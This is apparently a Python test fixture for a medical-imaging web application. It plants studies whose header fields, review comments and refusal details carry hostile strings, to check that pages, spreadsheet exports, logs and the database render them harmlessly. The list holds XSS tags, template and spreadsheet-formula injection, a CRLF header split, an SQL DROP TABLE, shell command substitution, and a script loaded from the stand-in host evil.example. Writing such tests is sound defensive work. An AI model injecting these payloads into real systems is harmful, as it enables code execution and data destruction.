"""What senders may write into a header to make a page, a spreadsheet, a log or a database do something (B61, B62)."""

from __future__ import annotations

from planted_studies import DECISIONS, plant, plant_objects, work_of

from dicom_node.ledger import StudyState
from dicom_node.reviews import Verdict
from dicom_node.study_cards import inert_text
from dicom_node.web.parts import WebParts

MARK = "h0stile"
HOSTILE = [
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg onload={MARK}()>',
    f"' autofocus onfocus={MARK}() x='",
    "{{7*7}}" + MARK,
    "{% include 'sign_in.html' %}" + MARK,
    f"=cmd|' /C {MARK}'!A0",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<script>",
    f"\u202e{MARK}\u202d",
    f"'; DROP TABLE study_card; -- {MARK}",
    f"$(touch /tmp/{MARK}) `{MARK}`",
    f"</title><script src=//evil.example/{MARK}.js></script>",
    f"javascript:{MARK}()",
    "A" * 4096 + MARK,
]


def study_of(number: int) -> str:
    return f"2.25.{1000 + number}"


def refused_of(number: int) -> str:
    return f"2.25.{2000 + number}"


def plant_hostile(parts: WebParts) -> None:
    """For every hostile text a measured and a refused study in whose every text it stands."""
    for number, value in enumerate(HOSTILE):
        shown = inert_text(value)
        texts = ("patient_name", "patient_id", "accession_number", "description", "scanner", "institution", "sex")
        card = dict.fromkeys(texts, shown) | {"study_date": shown[:8], "birth_date": shown[:8]}
        texts_of_series = dict.fromkeys(("reason", "left_out_because", "series_description"), value)
        decisions = tuple({**one, **texts_of_series} for one in DECISIONS)
        common = {"card": card, "decisions": decisions}
        plant(parts, uid=study_of(number), **common)
        plant(parts, uid=refused_of(number), state=StudyState.REFUSED, reason="INCOMPLETE", detail=value, **common)
        parts.reviews.write(
            work_id=work_of(study_of(number)),
            study_instance_uid=study_of(number),
            reader="rita",
            verdict=Verdict.REJECTED,
            comment=value[:4000],
            at=1.0,
        )
    plant_objects(parts, study_of(0))
